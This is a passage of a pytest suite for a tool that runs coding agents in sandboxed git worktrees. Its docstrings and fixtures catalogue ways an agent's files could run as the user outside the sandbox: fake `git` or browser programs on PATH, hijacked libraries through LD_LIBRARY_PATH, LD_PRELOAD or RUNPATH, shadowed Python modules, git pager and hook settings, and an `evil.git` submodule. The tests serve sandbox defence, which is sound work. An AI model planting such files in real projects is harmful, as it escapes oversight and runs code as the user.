    assert r["status"] == "failed" and "its object folder holds symbolic links, FIFOs or " \
        "devices" in r["error"], (r, err)


def test_a_git_that_prints_nothing_stops_when_asked(tmp_path):
    """The import's gits were stopped only when a line came: a git waiting on a FIFO ran to
    its time limit after a Ctrl-C. They are killed as soon as the run is stopped."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    stop = __import__("threading").Event()
    stop.set()
    started = time.monotonic()
    problem = ap._git_lines(["hash-object", str(fifo)], str(tmp_path), lambda line: None,
                            timeout=60, stop=stop)
    assert problem == "stopped" and time.monotonic() - started < 20, problem


# -- review round 45 ---------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["link made a folder", "literal ~", "sourced"])
def test_a_path_folder_reached_otherwise_still_counts(repo, monkeypatch, how):
    """A PATH entry `tools/bin` where `tools` is a tracked link to `tools_real`: the check
    looked at where the link led, and a branch making `tools` a folder with `bin/git` in it
    was merged (your next `git log` ran it). `PATH="~/bin:..."`, which bash expands when it
    looks a program up, was taken for a relative folder `~/bin`. And `source activate` reads
    a file of a PATH folder that is no program."""
    (repo / "tools_real" / "bin").mkdir(parents=True)
    (repo / "tools_real" / "bin" / "README").write_text("tools\n")
    (repo / "tools").symlink_to("tools_real")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "tools", cwd=repo)
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    if how == "link made a folder":
        entry, name = f"{repo}/tools/bin", "tools/bin/git"
        (repo / "tools").unlink()
    elif how == "literal ~":
        monkeypatch.setenv("HOME", str(repo))
        entry, name = "~/bin", "bin/git"
    else:
        entry, name = f"{repo}/tools_real/bin", "tools_real/bin/activate"
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text("#!/bin/sh\nid\n")
    os.chmod(repo / name, 0o644 if how == "sourced" else 0o755)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "side", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    monkeypatch.setenv("PATH", f"{entry}{os.pathsep}{os.environ['PATH']}")
    assert name in ap._Repo.find(str(repo)).run_by_your_git(base, tip)


def test_a_refusal_of_what_the_run_checked_does_not_say_it_did_not(cli, repo, tmp_path,
                                                                  monkeypatch):
    """An honest branch changing `bin/deploy`, with the checkout's bin/ on your PATH, was
    refused as `what would be merged is not what the run checked`, which it was: the run
    checked it, and your shell would run it. Such a refusal says to read it, then --force."""
    (repo / "bin").mkdir()
    (repo / "bin" / "deploy").write_text("#!/bin/sh\necho deploy\n")
    os.chmod(repo / "bin" / "deploy", 0o755)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "bin", cwd=repo)
    agent = script(tmp_path, "deploy.sh", "echo 'echo v2' >> bin/deploy\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    monkeypatch.setenv("PATH", f"{repo / 'bin'}{os.pathsep}{os.environ['PATH']}")
    code, out, err = tool("merge", "1")
    assert code == 2 and "a program in a folder of your PATH): bin/deploy" in err, err
    assert "not what the run checked" not in err and "then merge with --force" in err, err


@pytest.mark.parametrize("results", ["5", "true", "null"])
def test_results_that_are_no_list_give_a_one_line_error(cli, repo, tmp_path, results):
    """`"results": 5` in last-run.json (the file is anyone's to edit) made list, diff, merge
    and cleanup end in a traceback, exit 1 (a worker failed)."""
    agent = script(tmp_path, "w.sh", "echo x > a.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    state = repo / ".git" / "architect-parallel" / "last-run.json"
    data = json.loads(state.read_text())
    data["results"] = json.loads(results)
    state.write_text(json.dumps(data))
    for command in (["list"], ["diff", "best"], ["merge", "best"], ["cleanup", "--dry-run"],
                    ["report"], ["rerun", "--failed"]):
        code, out, err = tool(*command)
        assert "Traceback" not in err and code != 1 and code in (0, 2, 3, 4, 5), (command, code, err)
        assert code == 0 or len(err.strip().splitlines()) == 1, (command, err)


def test_report_open_finds_no_browser_in_a_checkout(cli, repo, tmp_path):
    """`export PATH="./node_modules/.bin:$PATH"`, then `report --open` in a worktree: Python's
    webbrowser found the agent's `www-browser` there and ran it as you."""
    pwned = tmp_path / "pwned"
    agent = script(tmp_path, "browser.sh", "mkdir -p node_modules/.bin\nfor b in www-browser "
                   "xdg-open links lynx w3m x-www-browser; do\n"
                   f"printf '#!/bin/sh\\necho \"$@\" >> {pwned}\\n' > node_modules/.bin/$b\n"
                   "chmod +x node_modules/.bin/$b\ndone\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    worktree = repo / ".architect-parallel-1"
    assert (worktree / "node_modules" / ".bin" / "www-browser").is_file()
    env = dict(os.environ, PATH=f"./node_modules/.bin{os.pathsep}{os.environ['PATH']}",
               PYTHONPATH=CHECKOUT)
    env.pop("BROWSER", None)
    env.pop("DISPLAY", None)
    proc = subprocess.run([sys.executable, "-m", "architect_parallel", "report", "--open"],
                          cwd=worktree, env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert not pwned.exists(), pwned.read_text()


@pytest.mark.parametrize("allowed, entry", [("go", "go/bin"), ("go/bin", "go/bin"),
                                            ("tools/bin/sub", "tools/bin")])
def test_an_allowed_folder_on_your_path_is_refused(cli, repo, tmp_path, monkeypatch, allowed,
                                                  entry):
    """`--sandbox-allow ~/go` (Go's module cache), with ~/go/bin on PATH: the agent wrote
    ~/go/bin/git, and the next `list` and `diff` ran it as you, outside the sandbox. A folder
    that is, holds or lies in one of your PATH is refused."""
    (tmp_path / allowed).mkdir(parents=True)
    (tmp_path / entry).mkdir(parents=True, exist_ok=True)
    monkeypatch.setenv("PATH", f"{tmp_path / entry}{os.pathsep}{os.environ['PATH']}")
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(tmp_path / allowed))
    assert code == 2 and "a folder of your PATH" in err, err
    assert not (repo / ".architect-parallel-1").exists()


@needs_bwrap
def test_includes_are_put_back_as_new_files_no_group_may_write(cli, repo, tmp_path):
    """With umask 002 your include `conf/local.env` is 0664; the agent moved conf/ into a
    set-group-ID folder of another account's group, and the runner's put-back, outside the
    sandbox, wrote your file there with your mode: that group rewrote it before the check read
    it. An include is put back as a new file without the group's or others' write."""
    (repo / "conf").mkdir()
    (repo / "conf" / "local.env").write_text("FROM=you\n")
    os.chmod(repo / "conf" / "local.env", 0o664)
    with open(repo / ".git" / "info" / "exclude", "a") as f:
        f.write("conf/local.env\n")
    r, err = _one_worker(cli, tmp_path, "echo FROM=agent > conf/local.env\n",
                         "grep -q FROM=you conf/local.env && "
                         "test \"$(stat -c %a conf/local.env)\" = 644", "bwrap",
                         "--include", "conf/local.env")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


def _adding(worktree):
    """Whether a `git add -A` runs in ``worktree`` (this test's run, not another test's)."""
    for pid in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().split(b"\0")
            if words[0].endswith(b"git") and words[1:3] == [b"add", b"-A"] and \
                    os.path.realpath(f"/proc/{pid}/cwd") == worktree:
                return True
    return False


def test_a_second_interrupt_stops_the_runners_own_gits(repo, tmp_path):
    """A 400 GB sparse file (made in an instant, no disk) and a sleep, then SIGTERM: the
    runner committed the work anyway, and its `git add` read 400 GB for --check-timeout
    (600 s; 300 here), a second signal or not. A second signal stops the runner's gits at
    once."""
    started = tmp_path / "started"
    agent = script(tmp_path, "huge.sh", f"truncate -s 400G big.bin\ntouch {started}\nsleep 100\n")
    env = dict(os.environ, PYTHONPATH=CHECKOUT)
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", "run", "do it",
                             "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--json",
                             "--progress", "none", "--check-timeout", "300"],
                            cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    deadline = time.monotonic() + 60
    while not started.exists():
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)

    worktree = os.path.realpath(repo / ".architect-parallel-1")
    deadline = time.monotonic() + 60
    while not _adding(worktree):  # (the runner's commit reads the file: the second signal now)
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    try:
        out, err = proc.communicate(timeout=120)
    finally:  # (on a failure: the runner goes; its git add within --check-timeout)
        proc.kill()
    assert proc.returncode == 143, err
    (r,) = json.loads(out)
    assert "(a second interrupt)" in r["error"], r
    worktree_git = git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1")
    assert not os.path.exists(os.path.join(worktree_git, "index.lock"))



def test_a_second_signal_a_worker_thread_gets_stops_the_gits_too(repo, tmp_path, cli):
    """The second SIGTERM of the test above, which the kernel may give to any thread: its
    handler runs only in the main thread, which waited for the workers without end, and the
    worker's git waited for the handler (CI, stop 36: 120 s, once in 25 runs under load).
    Here the second signal goes to the thread of the worker whose git reads 400 GB."""
    import threading
    started = tmp_path / "started"
    agent = script(tmp_path, "huge.sh", f"truncate -s 400G big.bin\ntouch {started}\nsleep 100\n")
    worktree = os.path.realpath(repo / ".architect-parallel-1")

    def signals():  # (each only while the run's handlers are in place: its agent, its git)
        deadline = time.monotonic() + 60
        while not started.exists():
            if time.monotonic() > deadline:
                return
            time.sleep(0.05)
        os.kill(os.getpid(), signal.SIGTERM)
        while not _adding(worktree):
            if time.monotonic() > deadline:
                return
            time.sleep(0.05)
        (worker,) = [t for t in threading.enumerate() if t.name.startswith("architect-parallel")]
        signal.pthread_kill(worker.ident, signal.SIGTERM)

    sender = threading.Thread(target=signals, daemon=True)
    sender.start()
    code, out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                         "--json", "--progress", "none", "--check-timeout", "40")
    sender.join()
    assert code == 143, err
    (r,) = json.loads(out)
    assert "(a second interrupt)" in r["error"], r
    # (round 101 (B): the footer said `cleanup`, which refused: the work is in no commit)
    assert "cleanup --force, once you have kept what you want of what it would delete unasked " \
        "in .architect-parallel-1 (" in err, err
    assert cli("cleanup")[0] == 2 and os.path.isdir(worktree)

# -- review round 46 ---------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["gitlink", ".gitmodules"])
def test_a_branch_that_changes_submodules_asks_for_force(repo, how):
    """A collected job's branch added `.gitmodules` and a gitlink to a repository of its own:
    verified, merged, and your `git submodule update --init` checked it out, where your
    global post-checkout hook ran its `.githooks/post-checkout` as you. A change to a
    submodule, or to .gitmodules, asks for --force."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    (repo / ".gitmodules").write_text('[submodule "lib"]\n\tpath = vendor/lib\n'
                                      '\turl = https://example.com/evil.git\n')
    git("add", ".gitmodules", cwd=repo)
    if how == "gitlink":
        git("update-index", "--add", "--cacheinfo", f"160000,{base},vendor/lib", cwd=repo)
    git("commit", "-qm", "sub", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("changes submodules" in w and ("vendor/lib" in w) == (how == "gitlink")
               for w in why), why


def test_a_branch_adding_what_your_ignore_rules_hide_asks_for_force(cli, repo, tmp_path):
    """`.venv/` ignored, a virtual environment there, not activated: the agent force-added
    `.venv/bin/git`; `merge` (whose PATH did not hold .venv/bin) took it, and your next
    `. .venv/bin/activate; git status` ran it. A branch adding a file your ignore rules hide
    asks for --force."""
    (repo / ".gitignore").write_text(".venv/\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    agent = script(tmp_path, "venv.sh", "mkdir -p .venv/bin && printf '#!/bin/sh\\nid\\n' > "
                   ".venv/bin/git && chmod +x .venv/bin/git && git add -f .venv/bin/git\n"
                   "echo x > a.txt\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert ".venv/bin/git" in results[0]["files_modified"], (results, err)
    code, out, err = tool("merge", "1")
    assert code == 2 and "adds files your ignore rules hide (.venv/bin/git)" in err, err
    assert not (repo / ".venv").exists()


def test_one_malformed_result_makes_every_command_say_so(cli, repo, tmp_path):
    """A failed worker's `status` edited to 5: `list` showed `-`, `report` went on, and
    `rerun --failed` said every worker had succeeded; a `commit` of 5 made `merge best` name
    another worker. One result not of the tool's form makes the file unreadable, for all."""
    agent = script(tmp_path, "w.sh", "echo x > a.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "2", "--progress", "none")
    state = repo / ".git" / "architect-parallel" / "last-run.json"
    data = json.loads(state.read_text())
    data["results"][1]["status"] = 5
    state.write_text(json.dumps(data))
    code, _out, err = tool("rerun", "--failed")
    assert "succeeded" not in err, err
    code, _out, err = tool("merge", "best")
    assert code == 2 and "cannot be read" in err and "bad status 5" in err, err


def test_every_command_says_the_last_runs_results_cannot_be_read(cli, repo, tmp_path):
    """`report` said there was no last run, `rerun` and `continue` that an older version made
    it, `diff best` and `merge best --force` to run first: the truth is that it is there and
    cannot be read."""
    agent = script(tmp_path, "w.sh", "echo x > a.txt\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    (repo / ".git" / "architect-parallel" / "last-run.json").write_text('{"results": [')
    for command in (["report"], ["rerun", "--failed"], ["continue", "1", "more"], ["diff", "best"],
                    ["merge", "best", "--force"], ["merge", "all", "--force"]):
        code, out, err = cli(*command)
        assert code == 2 and "the last run's results cannot be read" in err, (command, err)
        assert "no last run" not in err and "run first" not in err, (command, err)
    for command in (["list"], ["diff", "1"]):
        code, out, err = cli(*command)
        assert code == 0 and "warning: the last run's results cannot be read" in err, (command, err)
    assert "+x" in tool("diff", "1")[1]


@pytest.mark.parametrize("layout", ["link", "hard link", "link on the way"])
def test_an_allowed_folder_a_path_program_leads_into_is_refused(cli, repo, tmp_path, monkeypatch,
                                                               layout):
    """`bin/git -> ../tools/git-2.39/bin/git` (Homebrew, GNU Stow) with `--sandbox-allow
    tools`; conda's `bin/` hard links into `pkgs/` with `--sandbox-allow pkgs`; PATH through
    `sdk/current/bin`, `current` a link, with `--sandbox-allow sdk`: the agent rewrote the
    program (or made `current` a folder of its own), and the runner's gits ran it as you."""
    tools = tmp_path / "tools"
    (tools / "real" / "bin").mkdir(parents=True)
    program = tools / "real" / "bin" / "git"
    program.write_text("#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
    program.chmod(0o755)
    entry = tmp_path / "pathbin"
    if layout == "link":
        entry.mkdir()
        (entry / "git").symlink_to(program)
    elif layout == "hard link":
        entry.mkdir()
        os.link(program, entry / "git")
    else:  # (the link leads out of the allowed folder: the agent makes it a folder)
        (tmp_path / "opt" / "bin").mkdir(parents=True)
        (tools / "current").symlink_to(tmp_path / "opt")
        entry = tools / "current" / "bin"
    monkeypatch.setenv("PATH", f"{entry}{os.pathsep}{os.environ['PATH']}")
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(tools))
    assert code == 2 and "a folder of your PATH" in err, err


def test_a_second_interrupt_stops_the_renewal(tmp_path):
    """A million small files, then two SIGTERMs: the runner's gits stopped, but making the
    worktree's files new ones before the commit went on, 811 s. The renewal stops at the
    next file once the run is to stop at once."""
    top = tmp_path / "wt"
    top.mkdir()
    for n in range(50):
        (top / f"f{n}").write_text("x")
    stop = __import__("threading").Event()
    ap._renew_tree(str(top), set(), ap._Copies(stop))  # (not stopped: all renewed)
    stop.set()
    with pytest.raises(ap.ParallelError, match="a second interrupt"):
        ap._renew_tree(str(top), set(), ap._Copies(stop))


# -- review round 47 ---------------------------------------------------------------------------

@pytest.mark.parametrize("place", ["LD_LIBRARY_PATH", "LD_PRELOAD", "PYTHONPATH", "tool",
                                   "GIT_EXEC_PATH"])
def test_an_allowed_folder_code_is_loaded_from_is_refused(cli, repo, tmp_path, monkeypatch,
                                                         place):
    """`--sandbox-allow build` with `build/lib` on LD_LIBRARY_PATH: the agent put a
    libpcre2 of its own there, which 23 of the runner's gits and every bwrap (nsenter as
    root) loaded as you, outside the sandbox; the same through the tool's own folder or
    PYTHONPATH (its `xml/__init__.py`, imported for --junit), and git's exec-path (`merge`
    ran its `git maintenance`). A folder code is loaded from is refused, as PATH's are."""
    allowed = tmp_path / "build"
    (allowed / "lib").mkdir(parents=True)
    if place == "LD_LIBRARY_PATH":
        monkeypatch.setenv(place, str(allowed / "lib"))
    elif place == "LD_PRELOAD":
        monkeypatch.setenv(place, str(allowed / "lib" / "libx.so"))
    elif place == "PYTHONPATH":
        monkeypatch.setattr(sys, "path", [*sys.path, str(allowed / "lib")])
    elif place == "tool":
        monkeypatch.setattr(ap, "__file__", str(allowed / "architect_parallel.py"))
    else:
        monkeypatch.setenv(place, str(allowed / "lib"))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(allowed))
    assert code == 2 and "where what the worker put would be loaded" in err, err


@pytest.mark.parametrize("trick", ["pathspec magic", "beyond a link", "too many"])
def test_what_git_cannot_tell_is_never_taken_for_no_hidden_file(repo, monkeypatch, trick):
    """A file named `:(bogus)x`, or one beyond a link of yours (`CLAUDE.md/x`, the link made
    a folder), made `git check-ignore` stop, and its failure read as "nothing hidden": the
    agent's force-added `.venv/bin/git` was merged. So were 100,001 files before it. What
    git cannot tell asks for --force."""
    (repo / ".gitignore").write_text(".venv/\n")
    (repo / "AGENTS.md").write_text("agents\n")
    (repo / "CLAUDE.md").symlink_to("AGENTS.md")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "base", cwd=repo)
    files = {":(bogus)x": "x"} if trick == "pathspec magic" else {"src/a.txt": "a"}
    base, tip = _changes(repo, files)
    if trick == "beyond a link":
        git("checkout", "-q", "side", cwd=repo)
        (repo / "CLAUDE.md").unlink()
        (repo / "CLAUDE.md").mkdir()
        (repo / "CLAUDE.md" / "x").write_text("x")
        git("add", "-A", cwd=repo)
        git("commit", "-qm", "folder", cwd=repo)
        tip = git("rev-parse", "HEAD", cwd=repo)
        git("checkout", "-q", "-", cwd=repo)
    if trick == "too many":
        monkeypatch.setattr(ap, "_HIDDEN_ASKED", 0)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    said = "files beneath CLAUDE.md, a link in your checkout: git cannot tell" \
        if trick == "beyond a link" else "could not tell whether your ignore rules hide them"
    assert any(said in w for w in why), why


# -- review round 48 ---------------------------------------------------------------------------

@pytest.mark.parametrize("what", ["include", "gpg.program", "user site"])
def test_an_allowed_folder_your_git_or_python_reads_is_refused(cli, repo, tmp_path, monkeypatch,
                                                              what):
    """`[include] path = /shared/team.gitconfig` with `--sandbox-allow /shared`: the worker
    could add `gpg.program` there, run by merge's own git as you; a setting naming a program
    in the folder; and a user site-packages not made yet (`PYTHONUSERBASE` outside HOME),
    where a `.pth` the worker made ran at the next `list`."""
    shared = tmp_path / "shared"
    shared.mkdir()
    if what == "include":
        (shared / "team.gitconfig").write_text("[core]\n\tautocrlf = false\n")
        git("config", "include.path", str(shared / "team.gitconfig"), cwd=repo)
    elif what == "gpg.program":
        git("config", "gpg.program", str(shared / "gpg-wrapper"), cwd=repo)
    else:
        import site
        monkeypatch.setattr(site, "getuserbase", lambda: str(shared))
        monkeypatch.setattr(site, "getusersitepackages", lambda: str(shared / "lib" / "site"))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(shared))
    assert code == 2 and "--sandbox-allow" in err and (
        "git config file of yours" in err or "names (" in err or "user base" in err), err


# -- review round 49 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("entries, folder", [("/nonexistent:", "."), ("lib", "lib"),
                                             ("/usr/local/lib;", ".")])  # (round 50: ';')
def test_no_library_the_worker_wrote_is_loaded_by_the_runners_programs(cli, repo, tmp_path,
                                                                       monkeypatch, entries,
                                                                       folder):
    """`export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH` leaves an empty entry,
    which the loader reads as the folder a program starts in: the worktree, for the runner's
    gits, bwrap and (as root) nsenter, which loaded the worker's libpcre2 there as you; and so
    does a relative entry. The libraries here are no libraries at all: a program that loaded
    one could not start, and the run's gits and sandboxes would fail."""
    monkeypatch.setenv("LD_LIBRARY_PATH", entries)
    body = (f"mkdir -p {folder}\n"
            + "".join(f"echo not-a-library > {folder}/{lib}\n"
                      for lib in ("libz.so.1", "libpcre2-8.so.0", "libselinux.so.1", "libcap.so.2"))
            + "echo change >> README.md\n")
    r, err = _one_worker(cli, tmp_path, body, "sh -c 'exit 0'", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    assert git("show", "architect/parallel-1:README.md", cwd=repo).endswith("change")
    code, out, err = tool("diff", "1")
    assert code == 0 and "+change" in out, err
    code, _out, err = tool("cleanup", "--force")
    assert code == 0 and not os.path.exists(repo / ".architect-parallel-1"), err


@pytest.mark.parametrize("env, name", [
    ({}, "argparse.py"),  # (the top: `python -m architect_parallel`, `python -m pip` there)
    ({}, "json/__init__.py"),
    ({}, "__pycache__/architect_parallel.cpython-311.pyc"),
    ({}, "architect_parallel.py"),
    ({"PYTHONPATH": "src"}, "src/sitecustomize.py"),
    ({"PYTHONPATH": "/nowhere:src"}, "src/subprocess.py"),
    ({"LD_LIBRARY_PATH": "/usr/local/cuda/lib64:"}, "libz.so.1"),
    ({"LD_LIBRARY_PATH": "build/lib"}, "build/lib/libpcre2-8.so.0"),
    ({"GCONV_PATH": "{repo}/gconv"}, "gconv/EVIL.so"),
    ({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath",
      "GIT_CONFIG_VALUE_0": "githooks"}, "githooks/pre-commit"),
    ({"GIT_CONFIG_PARAMETERS": "'core.pager'='sh tools/pager.sh'"}, "tools/pager.sh"),
    ({"GIT_SSH_COMMAND": "./scripts/ssh.sh -q"}, "scripts/ssh.sh"),
    ({"BROWSER": "{repo}/bin/open"}, "bin/open"),
])
def test_what_your_programs_load_from_the_checkout_by_its_place_counts(repo, monkeypatch, env,
                                                                       name):
    """Python looks in the checkout's top first (`python -m`, the tool copied there as the
    README says: a merged `argparse.py` ran at the next `cleanup`), then PYTHONPATH's folders
    (`src/sitecustomize.py` ran in every Python); the loader in LD_LIBRARY_PATH's (an empty
    entry is the folder a program starts in), iconv in GCONV_PATH's; and your git takes
    settings from the environment too (GIT_CONFIG_COUNT, GIT_SSH_COMMAND), which merge
    skipped as the tool's own."""
    base, tip = _changes(repo, {name: "#!/bin/sh\nid > /tmp/pwned\n"})
    for key, value in env.items():
        monkeypatch.setenv(key, value.replace("{repo}", str(repo)))
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_the_tool_copied_into_the_checkout_is_not_changed_by_a_merge(repo, monkeypatch):
    """The README's first way: the file copied into the project, under any name."""
    (repo / "tools").mkdir()
    shutil.copy(ap.__file__, repo / "tools" / "parallel.py")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "vendored", cwd=repo)
    monkeypatch.setattr(ap, "__file__", str(repo / "tools" / "parallel.py"))
    base, tip = _changes(repo, {"tools/parallel.py": "import os\n", "tools/README": "x\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["tools/parallel.py"]


def test_folders_named_as_modules_are_not_modules(repo, monkeypatch):
    """No false alarm: data folders named as the standard library's modules (`html/`,
    `email/`, `types/`, `code/`), a project's `test/` package, its own package under
    PYTHONPATH, a JavaScript `lib/` beside `LD_LIBRARY_PATH=lib`."""
    monkeypatch.setenv("PYTHONPATH", "src")
    monkeypatch.setenv("LD_LIBRARY_PATH", "lib:/usr/local/lib")
    (repo / "test").mkdir()
    (repo / "test" / "__init__.py").write_text("")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "tests", cwd=repo)
    base, tip = _changes(repo, {"html/index.html": "<p>\n", "email/welcome.txt": "hi\n",
                                "types/index.d.ts": "x\n", "code/a.txt": "a\n",
                                "test/test_x.py": "x\n", "src/mypkg/__init__.py": "",
                                "src/mypkg/json.py": "x\n", "lib/util.js": "x\n",
                                "setup.py": "x\n", "conftest.py": "x\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == []


def test_merge_refuses_a_module_that_stands_in_for_one_of_the_standard_library(cli, repo,
                                                                             tmp_path):
    """The whole way: a worker adds `argparse.py` at the top; merge refuses it, saying why."""
    r, err = _one_worker(cli, tmp_path, "echo 'print(1)' > argparse.py\n", "true", "none")
    assert r["status"] == "success", (r, err)
    code, _out, err = cli("merge", "best")
    assert code != 0 and "argparse.py" in err, err
    assert not (repo / "argparse.py").exists()


@pytest.mark.parametrize("where", [".gitignore", "tools/.gitignore"])
def test_a_branch_bringing_the_ignore_rule_that_hides_its_file_asks_for_force(repo, where):
    """Round 46's refusal read the rules as they were before the merge: a branch adding
    `.venv/` to the .gitignore (or a .gitignore of its own below) with a force-added
    `.venv/bin/git` went through, and `git status` in the activated venv ran it."""
    folder = where.rpartition("/")[0]
    hidden = f"{folder + '/' if folder else ''}.venv/bin/git"
    base, tip = _changes(repo, {where: "*.log\n.venv/\n", "a.txt": "x\n"})
    git("checkout", "-q", "side", cwd=repo)  # (the agent's own `git add -f`)
    (repo / hidden).parent.mkdir(parents=True)
    (repo / hidden).write_text("#!/bin/sh\nid\n")
    git("add", "-f", hidden, cwd=repo)
    git("commit", "-qm", "venv", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    git("branch", "-qD", "side", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any(f"adds files your ignore rules hide ({hidden})" in w for w in why), why
    base, tip = _changes(repo, {where: "*.log\n", "b.txt": "y\n"})  # (no file hidden: no word)
    assert not any("ignore rules" in w for w in ap._written_otherwise(ap._Repo.find(str(repo)),
                                                                     base, tip))


@needs_bwrap
@pytest.mark.parametrize("what", ["XDG_CONFIG_HOME", "GIT_CONFIG_GLOBAL not made yet",
                                  "a hard link to an included config", "BROWSER", "GIT_SSH_COMMAND",
                                  "PYTHONSTARTUP", "GCONV_PATH", "sourced by .bashrc",
                                  "relative LD_LIBRARY_PATH"])
def test_a_folder_your_programs_read_or_run_by_other_ways_is_not_allowed(cli, repo, tmp_path,
                                                                        monkeypatch, what):
    """Round 48 looked at the git config files that were there and the settings in them:
    `$XDG_CONFIG_HOME/git/config` written by the worker ran its filter in the run's own gits;
    `GIT_CONFIG_GLOBAL` may name a file not made yet; a hard link to an included file
    was taken. The environment names programs too (BROWSER ran at `report --open`), iconv
    modules (GCONV_PATH: your `git log` loaded one); a `. /srv/team/env.sh` in ~/.bashrc
    runs that file in your next shell; a relative LD_LIBRARY_PATH entry is a folder from here."""
    shared = tmp_path / "shared"
    (shared / "sub").mkdir(parents=True)
    if what == "XDG_CONFIG_HOME":
        monkeypatch.setenv("XDG_CONFIG_HOME", str(shared))
    elif what == "GIT_CONFIG_GLOBAL not made yet":
        monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(shared / "sub" / "gitconfig"))
    elif what == "a hard link to an included config":
        team = tmp_path / "team.gitconfig"
        team.write_text("[core]\n\tautocrlf = false\n")
        git("config", "include.path", str(team), cwd=repo)
        os.link(team, shared / "sub" / "copy.gitconfig")
    elif what == "sourced by .bashrc":
        home = tmp_path / "home"
        home.mkdir()
        (home / ".bashrc").write_text(f"[ -f {shared}/sub/env.sh ] && . {shared}/sub/env.sh\n")
        monkeypatch.setenv("HOME", str(home))
    elif what == "relative LD_LIBRARY_PATH":
        monkeypatch.setenv("LD_LIBRARY_PATH", "/usr/local/cuda/lib64:../shared/sub")  # (from repo)
    else:
        value = {"BROWSER": "{s}/sub/open-browser", "GIT_SSH_COMMAND": "{s}/sub/ssh -q",
                 "PYTHONSTARTUP": "{s}/sub/startup.py", "GCONV_PATH": "{s}/sub"}[what]
        monkeypatch.setenv(what, value.format(s=shared))
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(shared))
    assert code == 2 and "--sandbox-allow" in err and "outside the sandbox" in err, err


@needs_bwrap
def test_a_folder_of_a_library_a_program_finds_by_its_runpath_is_not_allowed(cli, repo, tmp_path,
                                                                            monkeypatch):
    """A git of your own build on PATH, whose RUNPATH is `$ORIGIN/../lib`: the worker
    replaced its library there, and the runner's gits ran it as you, 23 times."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if not cc:
        pytest.skip("no C compiler here")
    mine = tmp_path / "mygit"
    (mine / "bin").mkdir(parents=True)
    (mine / "lib").mkdir()
    (tmp_path / "shim.c").write_text("int shim(void) { return 0; }\n")
    (tmp_path / "git.c").write_text(
        "#include <unistd.h>\nint shim(void);\n"
        f"int main(int c, char **v) {{ shim(); execv(\"{shutil.which('git')}\", v); return 127; }}\n")
    subprocess.run([cc, "-shared", "-fPIC", "-o", mine / "lib" / "libshim.so", tmp_path / "shim.c"],
                   check=True)
    subprocess.run([cc, "-o", mine / "bin" / "git", tmp_path / "git.c", f"-L{mine / 'lib'}",
                    "-lshim", "-Wl,-rpath,$ORIGIN/../lib"], check=True)
    monkeypatch.setenv("PATH", f"{mine / 'bin'}:{os.environ['PATH']}")
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(mine / "lib"))
